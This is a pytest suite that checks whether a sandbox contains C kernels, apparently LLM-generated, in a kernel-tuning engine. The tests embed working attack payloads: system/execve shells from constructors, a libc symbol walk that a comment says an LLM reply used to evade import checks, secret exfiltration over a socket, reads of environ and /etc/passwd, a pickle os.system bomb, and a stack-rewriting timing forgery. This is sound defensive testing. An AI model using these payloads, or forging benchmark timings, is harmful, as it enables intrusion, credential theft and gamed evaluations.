"""Attacks on the machine, written as C kernels and run through the real CPU backend (real gcc,
the real worker cascade). The text filters (static check, import allow-list) are switched off
for these: the wall itself must stop each one. Each test checks that nothing outside the cell's
scratch directory changed (a canary file, a listening port, a victim process, a secret that
must not appear in any output) and that the evaluation failed for the sandbox's reason."""

from __future__ import annotations

import os
import socket
import subprocess
import threading
import time
from pathlib import Path

import pytest

from app.core.types import COMPILE_FAILED, CRASH, RUNTIME_FAILED, SUSPECT, VERIFY_FAILED, Candidate
from app.goal import Goal
from app.gpu import sandbox
from app.gpu.cpu import CpuEvaluator, CpuSettings, CpuWorker, find_compiler, host_program_for
from app.gpu.timing import TimingSettings
from app.gpu.worker import Deadlines, WorkerPool

pytestmark = [pytest.mark.skipif(find_compiler() is None, reason="needs a C compiler"),
              pytest.mark.skipif(not sandbox.enabled(), reason="sandbox switched off")]

SECRET = "ks-canary-7f3a9c1e-do-not-leak"
FAST = CpuSettings(
    timing=TimingSettings(warmup=1, min_samples=3, max_samples=5, max_seconds=0.2),
    baseline_timing=TimingSettings(warmup=1, min_samples=3, max_samples=3, max_seconds=0.2),
    deadlines=Deadlines(compile_s=60.0, run_s=5.0), flush_bytes=0, memory_limit_bytes=1 << 30)
CONFIG = {"TILE": 16, "WRITE_MAJOR": 0, "VEC": 8, "THREADS": 1}
TRANSPOSE = """
void ks_kernel(float *y, const float *x, long rows, long cols) {
    for (long i = 0; i < rows; i++)
        for (long j = 0; j < cols; j++) y[j * rows + i] = x[i * cols + j];
}
"""
# Finds any libc function from the address of memcpy by walking libc's dynamic symbol table:
# no dlsym, no forbidden name in the imports (the technique an LLM reply used).
LIBC_WALK = r"""
#include <stdint.h>
#include <string.h>
typedef struct { unsigned char e_ident[16]; uint16_t e_type, e_machine; uint32_t e_version;
  uint64_t e_entry, e_phoff, e_shoff; uint32_t e_flags; uint16_t e_ehsize, e_phentsize, e_phnum,
  e_shentsize, e_shnum, e_shstrndx; } Ehdr;
typedef struct { uint32_t p_type, p_flags; uint64_t p_offset, p_vaddr, p_paddr, p_filesz,
  p_memsz, p_align; } Phdr;
typedef struct { int64_t d_tag; uint64_t d_val; } Dyn;
typedef struct { uint32_t st_name; unsigned char st_info, st_other; uint16_t st_shndx;
  uint64_t st_value, st_size; } Sym;
static void *libc_symbol(const char *name) {
    void *(*anchor)(void *, const void *, size_t) = memcpy;
    uintptr_t base = (uintptr_t)anchor & ~(uintptr_t)4095;
    while (memcmp((const void *)base, "\177ELF", 4) != 0) base -= 4096;
    const Ehdr *eh = (const Ehdr *)base;
    const Phdr *ph = (const Phdr *)(base + eh->e_phoff);
    const Dyn *dyn = 0;
    for (int i = 0; i < eh->e_phnum; i++)
        if (ph[i].p_type == 2) dyn = (const Dyn *)(base + ph[i].p_vaddr);
    const Sym *symtab = 0; const char *strtab = 0;
    for (; dyn && dyn->d_tag != 0; dyn++) {
        uintptr_t v = dyn->d_val < base ? base + dyn->d_val : dyn->d_val;
        if (dyn->d_tag == 6) symtab = (const Sym *)v;
        if (dyn->d_tag == 5) strtab = (const char *)v;
    }
    for (const Sym *s = symtab; (const char *)s < strtab; s++)
        if (s->st_name && s->st_value && strcmp(strtab + s->st_name, name) == 0)
            return (void *)(base + s->st_value);
    return 0;
}
"""


class WallOnlyWorker(CpuWorker):
    """The real CPU worker with the text filters off, so only the sandbox stands in the way."""

    def __init__(self, *args) -> None:
        super().__init__(*args)
        self.backend.static_check = lambda *a, **k: []
        self.backend.check_resources = lambda *a, **k: {"symbol_check": "off (sandbox test)"}


@pytest.fixture(scope="module")
def secret_env():
    saved = {k: os.environ.get(k) for k in ("KS_CANARY_SECRET", "OPENAI_API_KEY",
                                             "KERNELSWARM_LLM_API_KEY")}
    for k in saved:
        os.environ[k] = SECRET
    yield
    for k, v in saved.items():
        if v is None:
            os.environ.pop(k, None)
        else:
            os.environ[k] = v


@pytest.fixture(scope="module")
def transpose(secret_env):
    """A transpose evaluator whose worker skips the text checks (started after the secrets are
    in the parent's environment)."""
    ev = CpuEvaluator(Goal(name="sandbox attacks", backend="cpu", operator="transpose",
                           shapes=[[64, 96]]), settings=FAST)
    ev.pool.close()
    host = host_program_for(ev.tc)
    ev.pool = WorkerPool("test_sandbox_attacks:WallOnlyWorker",
                         [(ev.op.name, ev.tc.compiler, FAST.deadlines.compile_s, 0, host)],
                         memory_limit_bytes=1 << 30, name="attack-", programs=[host])
    yield ev
    ev.close()


@pytest.fixture
def outside(tmp_path):
    """A directory outside every cell, with a secret file in it; `changed()` says what differs."""
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET + "\n")
    before = sorted(p.name for p in tmp_path.iterdir())

    class Outside:
        path = tmp_path
        secret_file = secret

        @staticmethod
        def changed() -> list[str]:
            now = sorted(p.name for p in tmp_path.iterdir())
            return [n for n in now if n not in before] + [n for n in before if n not in now]

    return Outside()


def attack(ev: CpuEvaluator, name: str, source: str):
    return ev.evaluate(Candidate(config=CONFIG, key=f"attack-{name}-{time.monotonic_ns()}",
                                 agent="llm", source=source))


def assert_correct(result) -> None:
    """The kernel computed the right answer. On a loaded machine an honest call's channel can
    stay slower than its calibration through both timing passes, and the timing-integrity
    check then calls the report suspect (seen once in a CI rehearsal on 2 cores): that comes
    after a passed verification, so it says nothing about what these tests check (a leak or
    a wrong answer fails `verify`, before any timing)."""
    if result.ok:
        return
    verified = any(s.name == "verify" and s.ok for s in result.stages)
    assert verified and result.reason == SUSPECT and "forged timing" in result.detail, (
        result.reason, result.detail, result.log[-2000:])


def assert_no_leak(result) -> None:
    for text in (result.log, result.detail, *(s.detail for s in result.stages)):
        assert SECRET not in (text or "")


def assert_sandbox_kill(result) -> None:
    assert not result.ok
    assert result.reason == CRASH, (result.reason, result.detail)
    assert "sandbox violation" in result.detail and "SIGSYS" in result.detail, result.detail


def test_constructor_running_system_is_killed(transpose, outside):
    canary = outside.path / "canary"
    source = f"""#include <stdlib.h>
__attribute__((constructor)) static void payload(void) {{ system("id > {canary}"); }}
{TRANSPOSE}"""
    result = attack(transpose, "constructor-system", source)
    assert_sandbox_kill(result)
    assert not canary.exists() and outside.changed() == []


def test_init_array_libc_walk_to_fork_and_execve_is_killed(transpose, outside):
    canary = outside.path / "canary"
    source = LIBC_WALK + f"""
static void payload(void) {{
    int (*fork_)(void) = (int (*)(void))libc_symbol("fork");
    int (*execve_)(const char *, char *const[], char *const[]) =
        (int (*)(const char *, char *const[], char *const[]))libc_symbol("execve");
    char *argv[] = {{"sh", "-c", "id > {canary}", 0}};
    if (fork_ && fork_() == 0 && execve_) execve_("/bin/sh", argv, 0);
    if (execve_) execve_("/bin/sh", argv, 0);
}}
__attribute__((section(".init_array"), used)) static void (*run_at_load)(void) = payload;
{TRANSPOSE}"""
    result = attack(transpose, "libc-walk", source)
    assert_sandbox_kill(result)
    assert not canary.exists() and outside.changed() == []


def test_libc_walk_to_system_from_the_kernel_call_is_killed(transpose, outside):
    canary = outside.path / "canary"
    source = LIBC_WALK + f"""
void ks_kernel(float *y, const float *x, long rows, long cols) {{
    int (*system_)(const char *) = (int (*)(const char *))libc_symbol("system");
    if (system_) system_("id > {canary}");
    for (long i = 0; i < rows; i++)
        for (long j = 0; j < cols; j++) y[j * rows + i] = x[i * cols + j];
}}"""
    result = attack(transpose, "libc-walk-system", source)
    assert_sandbox_kill(result)
    assert result.stages[-1].name == "verify"
    assert not canary.exists() and outside.changed() == []


@pytest.fixture
def listener():
    """A loopback TCP port that records every connection it sees."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    seen: list[str] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, addr = server.accept()
                seen.append(str(addr))
                conn.close()
            except (TimeoutError, OSError):
                continue

    t = threading.Thread(target=accept, daemon=True)
    t.start()
    yield server.getsockname()[1], seen
    stop.set()
    t.join(2)
    server.close()


def test_tcp_connection_to_loopback_is_killed_and_never_arrives(transpose, listener):
    port, seen = listener
    source = f"""#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <string.h>
#include <unistd.h>
void ks_kernel(float *y, const float *x, long rows, long cols) {{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a; memset(&a, 0, sizeof a);
    a.sin_family = AF_INET; a.sin_port = htons({port}); a.sin_addr.s_addr = htonl(0x7f000001);
    connect(s, (struct sockaddr *)&a, sizeof a);
    write(s, "{SECRET}", 8);
    for (long i = 0; i < rows; i++)
        for (long j = 0; j < cols; j++) y[j * rows + i] = x[i * cols + j];
}}"""
    result = attack(transpose, "tcp", source)
    assert_sandbox_kill(result)
    time.sleep(0.5)
    assert seen == []


def test_unix_socket_outside_the_cell_is_unreachable(transpose, outside):
    """Own attack: a local service on a unix socket (the kind a desktop session has)."""
    path = str(outside.path / "service.sock")
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(path)
    server.listen(1)
    server.settimeout(1.0)
    source = f"""#include <sys/socket.h>
#include <sys/un.h>
#include <string.h>
void ks_kernel(float *y, const float *x, long rows, long cols) {{
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a; memset(&a, 0, sizeof a); a.sun_family = AF_UNIX;
    strcpy(a.sun_path, "{path}");
    connect(s, (struct sockaddr *)&a, sizeof a);
    for (long i = 0; i < rows; i++)
        for (long j = 0; j < cols; j++) y[j * rows + i] = x[i * cols + j];
}}"""
    try:
        result = attack(transpose, "unix", source)
        assert_sandbox_kill(result)
        with pytest.raises(TimeoutError):
            server.accept()
    finally:
        server.close()


def test_environment_holds_no_secret(transpose, outside):
    """getenv, /proc/self/environ and (own attack) the parent's /proc/<ppid>/environ."""
    source = r"""#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
static void dump(const char *path) {
    FILE *f = fopen(path, "r");
    if (!f) { printf("ENV-ATTACK %s: refused\n", path); return; }
    char buf[8192]; size_t n = fread(buf, 1, sizeof buf - 1, f); fclose(f);
    for (size_t i = 0; i < n; i++) if (!buf[i]) buf[i] = ' ';
    buf[n] = 0; printf("ENV-ATTACK %s: %s\n", path, buf);
}
void ks_kernel(float *y, const float *x, long rows, long cols) {
    const char *names[] = {"KS_CANARY_SECRET", "OPENAI_API_KEY", "KERNELSWARM_LLM_API_KEY"};
    for (int i = 0; i < 3; i++) {
        const char *v = getenv(names[i]);
        printf("ENV-ATTACK %s=%s\n", names[i], v ? v : "(unset)");
    }
    printf("ENV-ATTACK HOME=%s\n", getenv("HOME"));
    dump("/proc/self/environ");
    char parent[64]; snprintf(parent, sizeof parent, "/proc/%d/environ", (int)getppid());
    dump(parent);
    fflush(stdout);
    (void)y; (void)x; (void)rows; (void)cols;
}"""
    result = attack(transpose, "env", source)
    assert not result.ok and result.reason == VERIFY_FAILED  # it computed nothing
    assert "ENV-ATTACK KS_CANARY_SECRET=(unset)" in result.log  # it ran, and saw nothing
    assert "ENV-ATTACK OPENAI_API_KEY=(unset)" in result.log
    assert "environ: refused" in result.log  # the parent's environment is out of reach
    assert os.path.expanduser("~") not in result.log.split("HOME=")[1].split("\n")[0]
    assert_no_leak(result)
    assert outside.changed() == []


def test_writing_outside_the_scratch_directory_is_refused(transpose, outside):
    targets = [outside.path / "written.txt", Path.home() / f".ks-sandbox-canary-{os.getpid()}",
               Path(__file__).parent / f"ks-sandbox-canary-{os.getpid()}"]
    opens = "\n".join(
        f'    f = fopen("{t}", "w"); printf("WRITE-ATTACK %s\\n", f ? "written" : "refused");'
        f" if (f) {{ fputs(\"pwned\", f); fclose(f); }}" for t in targets)
    source = f"""#include <stdio.h>
void ks_kernel(float *y, const float *x, long rows, long cols) {{
    FILE *f;
{opens}
    fflush(stdout);
    (void)y; (void)x; (void)rows; (void)cols;
}}"""
    try:
        result = attack(transpose, "write", source)
        assert not result.ok
        assert result.log.count("WRITE-ATTACK refused") == len(targets), result.log
        assert not any(t.exists() for t in targets)
        assert outside.changed() == []
    finally:
        for t in targets:
            t.unlink(missing_ok=True)


def test_reading_a_file_outside_the_allowed_set_is_refused(transpose, outside):
    paths = [outside.secret_file, Path(__file__).resolve().parent.parent / "pyproject.toml"]
    reads = "\n".join(f'    peek("{p}");' for p in paths)
    source = f"""#include <stdio.h>
static void peek(const char *path) {{
    FILE *f = fopen(path, "r");
    char buf[256] = {{0}};
    if (f) {{ fread(buf, 1, sizeof buf - 1, f); fclose(f); }}
    printf("READ-ATTACK %s: %s\\n", path, f ? buf : "refused");
}}
void ks_kernel(float *y, const float *x, long rows, long cols) {{
{reads}
    fflush(stdout);
    (void)y; (void)x; (void)rows; (void)cols;
}}"""
    result = attack(transpose, "read", source)
    assert not result.ok
    assert result.log.count(": refused") == len(paths), result.log
    assert_no_leak(result)
    assert outside.changed() == []


@pytest.mark.parametrize("target, evidence", [("secret", SECRET), ("/etc/passwd", "root:"),
                                              ("/etc/hostname", "\n")])
def test_including_a_file_at_compile_time_leaks_nothing(transpose, outside, target, evidence):
    """Own attack: the compiler quotes a file it was told to include in its error messages
    (the include's name hidden behind a macro); the compile helper cannot open files outside
    the toolchain's and the cell's."""
    path = outside.secret_file if target == "secret" else target
    source = f"""#define SECRET_FILE "{path}"
#include SECRET_FILE
{TRANSPOSE}"""
    result = attack(transpose, "include", source)
    assert not result.ok and result.reason == COMPILE_FAILED, (result.reason, result.detail)
    # Landlock refuses it, or the cell's file view does not even hold it
    assert any(why in result.log + result.detail
               for why in ("Permission denied", "No such file or directory"))
    if target != "/etc/hostname":
        assert evidence not in result.log + result.detail
    assert_no_leak(result)
    assert outside.changed() == []


def test_signalling_another_process_is_killed(transpose):
    """Own attack: kill() a process of the same user (here a `sleep` standing in for the GUI)."""
    victim = subprocess.Popen(["sleep", "60"])
    try:
        source = f"""#include <signal.h>
void ks_kernel(float *y, const float *x, long rows, long cols) {{
    kill({victim.pid}, SIGKILL);
    for (long i = 0; i < rows; i++)
        for (long j = 0; j < cols; j++) y[j * rows + i] = x[i * cols + j];
}}"""
        result = attack(transpose, "kill", source)
        assert_sandbox_kill(result)
        time.sleep(0.2)
        assert victim.poll() is None  # still running
    finally:
        victim.kill()
        victim.wait()


def test_an_honest_kernel_still_passes_after_the_attacks(transpose):
    result = attack(transpose, "honest", f"#include <stddef.h>\n{TRANSPOSE}")
    assert result.ok, (result.reason, result.detail, result.log[-2000:])
    assert result.time_ms and result.time_ms > 0


def pickle_bomb(canary: Path) -> str:
    """A kernel that writes a pickle calling os.system to every socket and pipe it holds,
    looking for the worker's pipe to the engine, which unpickles what arrives on it."""
    payload = f"cos\\nsystem\\n(S'id > {canary}'\\ntR."
    return f"""#include <sys/stat.h>
#include <unistd.h>
#include <string.h>
void ks_kernel(float *y, const float *x, long rows, long cols) {{
    const char payload[] = "{payload}";
    unsigned n = sizeof payload - 1;
    unsigned char header[4] = {{n >> 24, n >> 16, n >> 8, n}};
    for (int fd = 3; fd < 256; fd++) {{
        struct stat st;
        if (fstat(fd, &st) == 0 && ((st.st_mode & 0170000) == 0140000 ||  /* a socket */
                                    (st.st_mode & 0170000) == 0010000)) {{  /* a pipe */
            write(fd, header, 4);
            write(fd, payload, n);
        }}
    }}
    for (long i = 0; i < rows; i++)
        for (long j = 0; j < cols; j++) y[j * rows + i] = x[i * cols + j];
}}"""


def test_a_pickle_sent_up_the_workers_pipe_does_not_run_in_the_engine(transpose, outside):
    """Own attack: escape the cell through its one open door, the pipe to the engine process
    (which has the user's rights and the API key). The candidate runs in its own process,
    which holds no handle on that pipe: the only pipe it finds is its reply channel to the
    cell, and writing there fails the candidate."""
    canary = outside.path / "canary"
    result = attack(transpose, "pickle", pickle_bomb(canary))
    assert not result.ok and result.reason == RUNTIME_FAILED, (result.reason, result.detail)
    assert "harness's channel" in result.detail, result.detail
    assert not canary.exists() and outside.changed() == []


class PickleSendingWorker:
    """A worker whose own code is subverted: it writes a pickle calling os.system up its pipe."""

    def __init__(self, canary: str) -> None:
        self.payload = f"cos\nsystem\n(S'id > {canary}'\ntR.".encode()

    def __call__(self, request, progress):
        import stat

        for fd in range(3, 256):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    os.write(fd, len(self.payload).to_bytes(4, "big") + self.payload)
            except OSError:
                pass
        time.sleep(1.0)
        return {}


def test_the_engine_unpickles_only_plain_data(outside):
    """Behind the candidate's own process, the cell: even a subverted worker cannot make the
    engine run code through its pipe."""
    canary = outside.path / "canary"
    pool = WorkerPool("test_sandbox_attacks:PickleSendingWorker", [(str(canary),)], name="pickle-")
    try:
        reply = pool.call(("anything",), Deadlines(run_s=10.0))
    finally:
        pool.close()
    assert reply.fault is not None and reply.fault.reason == CRASH, reply
    assert "not plain data" in reply.fault.detail and "os.system" in reply.fault.detail
    assert not canary.exists() and outside.changed() == []


# Looks through every loaded object's dynamic symbols for a BLAS (any name holding "sgemm"),
# with dl_iterate_phdr found by the libc walk above: no import names it.
BLAS_WALK = LIBC_WALK + r"""
struct phdr_info { uintptr_t addr; const char *name; const Phdr *phdr; uint16_t phnum; };
static int look(struct phdr_info *info, size_t size, void *found) {
    (void)size;
    for (int i = 0; i < info->phnum; i++) {
        if (info->phdr[i].p_type != 2) continue;
        const Dyn *dyn = (const Dyn *)(info->addr + info->phdr[i].p_vaddr);
        const Sym *symtab = 0; const char *strtab = 0; uint64_t strsz = 0;
        const uint32_t *hash = 0, *gnu = 0;
        for (; dyn->d_tag != 0; dyn++) {
            uintptr_t v = dyn->d_val < info->addr ? info->addr + dyn->d_val : dyn->d_val;
            if (dyn->d_tag == 6) symtab = (const Sym *)v;
            if (dyn->d_tag == 5) strtab = (const char *)v;
            if (dyn->d_tag == 10) strsz = dyn->d_val;
            if (dyn->d_tag == 4) hash = (const uint32_t *)v;
            if (dyn->d_tag == 0x6ffffef5) gnu = (const uint32_t *)v;
        }
        uint32_t count = 0;  /* the symbol count, from the loader's own hash tables */
        if (hash) {
            count = hash[1];
        } else if (gnu) {
            const uint32_t *buckets = gnu + 4 + 2 * gnu[2], *chain = buckets + gnu[0];
            for (uint32_t b = 0; b < gnu[0]; b++) if (buckets[b] > count) count = buckets[b];
            if (count >= gnu[1]) { while (!(chain[count - gnu[1]] & 1)) count++; count++; }
        }
        if (!symtab || !strtab) continue;
        for (uint32_t k = 0; k < count; k++) {
            const Sym *s = symtab + k;
            if (s->st_name && s->st_name < strsz && s->st_value &&
                strstr(strtab + s->st_name, "sgemm"))
                ++*(int *)found;
        }
    }
    return 0;
}
int ks_blas_symbols(void) {
    int (*iterate)(int (*)(struct phdr_info *, size_t, void *), void *) =
        (int (*)(int (*)(struct phdr_info *, size_t, void *), void *))libc_symbol("dl_iterate_phdr");
    int found = 0;
    if (iterate) iterate(look, &found);
    return found;
}
"""


def test_a_blas_found_by_walking_memory_is_out_of_reach(transpose, tmp_path):
    """(c) of the issue, the way no import check sees: walk libc's symbols to dl_iterate_phdr,
    then every loaded object's symbols to an sgemm. In the worker cell (numpy's BLAS mapped)
    the walk finds one; in the candidate's own process there is none, so the kernel, which
    writes NaN when it finds one, verifies."""
    import ctypes

    import numpy  # noqa: F401 - its BLAS is what the walk must find in this process

    lib = tmp_path / "walk.so"
    (tmp_path / "walk.c").write_text(BLAS_WALK)
    subprocess.run([find_compiler(), "-O2", "-shared", "-fPIC", str(tmp_path / "walk.c"), "-o",
                    str(lib)], check=True)
    assert ctypes.CDLL(str(lib)).ks_blas_symbols() > 0  # the walk works where numpy lives
    kernel = BLAS_WALK + """
void ks_kernel(float *y, const float *x, long rows, long cols) {
    for (long i = 0; i < rows; i++)
        for (long j = 0; j < cols; j++) y[j * rows + i] = x[i * cols + j];
    if (ks_blas_symbols() > 0) y[0] = 0.0f / 0.0f;
}
"""
    result = attack(transpose, "blas-walk", kernel)
    assert_correct(result)


FORGED_DURATION = r"""
#include <time.h>
/* Works 3 ms, then rewrites every recent clock reading it finds on the stack above it (the
   harness's start time, saved by its caller or spilled there) to "just now": the duration the
   kernel's process reports shrinks to almost nothing. */
__attribute__((noinline)) void ks_kernel(float *y, const float *x, long rows, long cols) {
    __asm__ volatile("" ::: "rbx", "r12", "r13", "r14", "r15");  /* caller's values to the stack */
    for (long i = 0; i < rows; i++)
        for (long j = 0; j < cols; j++) y[j * rows + i] = x[i * cols + j];
    struct timespec ts;
    long long start, now;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    start = ts.tv_sec * 1000000000LL + ts.tv_nsec;
    do {
        clock_gettime(CLOCK_MONOTONIC, &ts);
        now = ts.tv_sec * 1000000000LL + ts.tv_nsec;
    } while (now - start < 3000000);
    volatile long long *p = (volatile long long *)__builtin_frame_address(0) - 64;
    for (int i = 0; i < 1024; i++)
        if (p[i] > now - 2000000000LL && p[i] < start) p[i] = now - 500;
}
"""


def test_a_forged_duration_is_refused(transpose):
    """Own attack: the kernel shares its process with the clock that times it, and rewrites the
    start time on the stack. The cell's own clock around the call disagrees: refused."""
    result = attack(transpose, "forged-duration", FORGED_DURATION)
    assert not result.ok and result.reason == SUSPECT, (result.reason, result.detail,
                                                        result.time_ms)
    assert "forged timing" in result.detail, result.detail
    assert "cell's clock" in result.detail or "zygote's clock" in result.detail, result.detail
    # refused at timing, after its answer verified (what `assert_correct` relies on)
    assert [s.name for s in result.stages if s.ok][-1] == "verify", result.stages


def test_no_state_survives_from_one_candidate_to_the_next(transpose):
    """A candidate leaves a mark in the OpenMP runtime (no global of its own); the next one,
    in a fresh process, must not see it (it writes NaN if it does)."""
    mark = "#include <omp.h>\n" + TRANSPOSE.replace(
        "for (long i = 0;", "omp_set_default_device(4242);\n    for (long i = 0;", 1)
    reader = "#include <omp.h>\n" + TRANSPOSE.replace(
        "}\n", "    if (omp_get_default_device() == 4242) y[0] = 0.0f / 0.0f;\n}\n", 1)
    assert_correct(attack(transpose, "mark", mark))
    assert_correct(attack(transpose, "reader", reader))
